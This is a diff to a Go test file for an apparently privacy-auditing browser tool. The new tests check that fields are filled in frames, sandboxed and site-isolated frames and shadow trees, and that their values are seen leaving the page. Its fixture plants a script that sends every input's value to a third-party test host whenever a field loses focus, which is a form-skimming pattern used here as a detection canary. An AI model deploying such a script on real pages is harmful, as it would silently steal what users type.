@@ -3,6 +3,7 @@ package browser
 import (
 	"fmt"
 	"os"
+	"slices"
 	"strings"
 	"testing"
 
@@ -133,4 +134,75 @@ func TestFormsKeyByKey(t *testing.T) {
 	if n := len(web.plant.log("/keys")) - before; n > 4 { // the page, its script and frame, and the arrow key
 		t.Errorf("%d keys were sent though nothing may be typed", n)
 	}
+}
+
+// TestFormsPlaces: fields are filled wherever they are: in a foreign frame, one nested in it, a sandboxed one, one that
+// asks for a process of its own, an open shadow tree. All frames share the page's process, as its clock demands.
+func TestFormsPlaces(t *testing.T) {
+	eachMode(t, func(t *testing.T, mode string) {
+		page := formPlaces(mode)
+		b := own(t, mode, func(o *Options) { o.Forms = true })
+		v := visit(t, b, page, evidence.ChoiceNone)
+		for _, r := range v.Requests {
+			if r.Target == "frame" {
+				t.Errorf("a frame is in another process: %s", r.URL)
+			}
+		}
+		if missing := unfilled(v); len(missing) > 0 {
+			t.Errorf("not filled: %v; flows %v", missing, v.Flows)
+		}
+	})
+}
+
+// TestFormsApart: where something else forces frames into processes of their own (a policy can), their fields are filled
+// through their own sessions. The page's clock does not wait for such frames: one that comes late is missed, and so
+// three visits are made.
+func TestFormsApart(t *testing.T) {
+	eachMode(t, func(t *testing.T, mode string) {
+		page := formPlaces("apart-" + mode)
+		b := own(t, mode, func(o *Options) { o.Forms, o.more = true, []string{"--site-per-process"} })
+		missing := formFields
+		for i := 0; i < 3 && len(missing) > 0; i++ {
+			v := visit(t, b, page, evidence.ChoiceNone)
+			if !slices.ContainsFunc(v.Requests, func(r evidence.Request) bool { return r.Target == "frame" }) {
+				t.Fatal("no frame is in another process")
+			}
+			now := unfilled(v)
+			missing = slices.DeleteFunc(slices.Clone(missing), func(f string) bool { return !slices.Contains(now, f) })
+		}
+		if len(missing) > 0 {
+			t.Errorf("never filled: %v", missing)
+		}
+	})
+}
+
+// formFields are the fields of formPlaces.
+var formFields = []string{"main", "open", "outer", "inner", "boxed", "apart"}
+
+// unfilled are the fields of formPlaces whose value did not leave.
+func unfilled(v evidence.Visit) []string {
+	return slices.DeleteFunc(slices.Clone(formFields), func(name string) bool {
+		return slices.ContainsFunc(v.Flows, func(f evidence.Flow) bool { return f.Host == plantOther && f.From == "canary:text:"+name })
+	})
+}
+
+// formPlaces plants a page with a field in each place, whose values leave when they lose the focus.
+func formPlaces(name string) string {
+	at := "/places-" + name
+	web.plant.put(plantThird+at+".js", `for (const e of document.querySelectorAll('input')) watch(e);
+function watch(e) { e.addEventListener('blur', () => fetch('https://`+plantOther+at+`', {method: 'POST', mode: 'no-cors', body: e.name + '=' + e.value})) }`)
+	tag := "<script src='https://" + plantThird + at + ".js'></script>"
+	field := func(name, more string) string {
+		return document("<input name=" + name + " style='position:fixed;left:9px;top:9px'>" + more + tag)
+	}
+	frame := func(host, what, more string) string {
+		return "<iframe " + more + " width=600 height=300 src='https://" + host + at + what + "'></iframe>"
+	}
+	web.plant.put(plantOther+at+"-inner", field("inner", ""))
+	web.plant.put(plantDeep+at+"-outer", field("outer", frame(plantOther, "-inner", "style='position:fixed;left:9px;top:60px'")))
+	web.plant.put(plantThird+at+"-boxed", field("boxed", ""))
+	web.plant.put("own.foreign.test"+at+"-apart", field("apart", ""), "Origin-Agent-Cluster: ?1")
+	return web.plant.put(plantSite+at, document("<input name=main><x-open></x-open>"+frame(plantDeep, "-outer", "")+frame(plantThird, "-boxed", "sandbox='allow-scripts'")+
+		frame("own.foreign.test", "-apart", "")+tag+
+		"<script>{const r = document.querySelector('x-open').attachShadow({mode: 'open'}); r.innerHTML = '<p><input name=open></p>'; watch(r.querySelector('input'))}</script>"))
 }
